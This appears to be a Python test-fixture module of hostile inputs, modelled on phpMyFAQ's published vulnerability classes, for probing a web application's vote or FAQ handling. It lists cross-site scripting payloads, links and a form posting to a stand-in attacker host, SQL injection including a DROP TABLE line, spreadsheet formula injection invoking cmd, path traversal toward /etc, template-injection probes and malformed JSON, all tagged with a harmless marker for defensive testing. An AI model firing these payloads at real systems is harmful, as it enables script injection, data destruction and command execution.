"""What hostile visitors send: every text bears `MARK`, so that it can be looked for afterwards.

The classes are those of phpMyFAQ's published holes, from 2022 to 2026.
"""

import html
import json
from collections.abc import Iterator

from bs4 import BeautifulSoup

MARK = "zqmark77"
ADDRESS = "203.0.113.99"  # of a visitor; it may be found nowhere afterwards

LIVE = (
    f"<script>{MARK}()</script>",
    f"<img src=x onerror=\"document.title='{MARK}'\">",
    f"<svg onload={MARK}()>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{MARK}()</script></svg>',
    f'<svg><a xlink:href="javascript:{MARK}()"><text>x</text></a></svg>',
    f"</textarea></form><script>{MARK}()</script>",
    f"</title></head><body onload={MARK}()>",
    f'"><input autofocus onfocus={MARK}()>',
    f"' onmouseover='{MARK}()",
    f'https://www.x/"onmouseover="{MARK}()"',
    f"javascript:{MARK}()",
    f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    f'<a href="https://evil.example/{MARK}">sign in again</a>',
    f'<form action="https://evil.example/{MARK}"><input name=password></form>',
    f"<!-- {MARK} --><style>@import url(//evil.example/{MARK})</style>",
    f"<!DOCTYPE x [<!ENTITY y '{MARK}'>]><x>&y;</x>",
    f"{{{{ 7*7 }}}}{{% include '{MARK}' %}}${{7*7}}#{{7*7}}{{0.__class__}}%({MARK})s",
    f"[{MARK}](javascript:{MARK}()) ![x](https://evil.example/{MARK}.png)",
)
INJECTIONS = (
    f"' OR '1'='1' -- {MARK}",
    f"'); DROP TABLE votes; -- {MARK}",
    f"\\'; SELECT pg_sleep(9); -- {MARK}",
    f"1; ATTACH DATABASE '/tmp/{MARK}' AS x; --",
    f"{MARK}\\",
    f"{MARK}%00%27",
)
FORMULAS = tuple(f"{sign}cmd|' /C {MARK}'!A0" for sign in "=+-@\t\r")
PATHS = (
    f"../../../etc/{MARK}",
    f"..\\..\\{MARK}",
    f"%2e%2e%2f{MARK}",
    f"file:///etc/{MARK}",
    f"/var/{MARK}\0.json",
)
UNSEEN = (
    f"\u202e{MARK}\u202c",  # right-to-left override
    f"\u2066{MARK}\u2069\u200b\u200d\ufeff\u00ad",
    f"{MARK}\u2028{MARK}\u2029",
)
BROKEN = (f"{MARK}\0", f"\x1b[31m{MARK}", f'{MARK}\n{{"event": "forged"}}')
HOSTILE = (*LIVE, *INJECTIONS, *FORMULAS, *PATHS, *UNSEEN, *BROKEN)


def encode_entities(text: str, depth: int) -> str:
    """`text` with its signs as entities, `depth` times over."""
    for _ in range(depth):
        text = html.escape(text)
    return text


def list_tags(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """Every tag of a page with the names of its attributes: what harmless text cannot change."""
    return [
        (tag.name, tuple(sorted(tag.attrs)))
        for tag in BeautifulSoup(page, "html.parser").find_all()
    ]


def nest_json(depth: int) -> str:
    """JSON so deep that a careless reader falls over."""
    return '{"entry":' + "[" * depth + "]" * depth + "}"


def iter_documents() -> Iterator[bytes]:
    """Bodies that are no proper JSON object, or say something twice."""
    vote = {"entry": 1029, "locale": "en", "revision": 4, "rating": 5}
    good = json.dumps(vote)
    yield from (b"", b"null", b"[]", b'"x"', b"1", b"{", b"{}}", b"\xff\xfe", good.encode("utf-16"))
    yield from (good.replace("{", '{"rating": 1, ', 1).encode(), good.encode() + b" {}")
    yield from (good.replace("5", "NaN").encode(), good.replace("5", "Infinity").encode())
    yield from (good.replace("5", "1" * 5000).encode(), b"\xef\xbb\xbf" + good.encode())
    yield nest_json(5_000).encode()
    yield good.replace("1029", '{"entry": 1029, "entry": 1029}').encode()
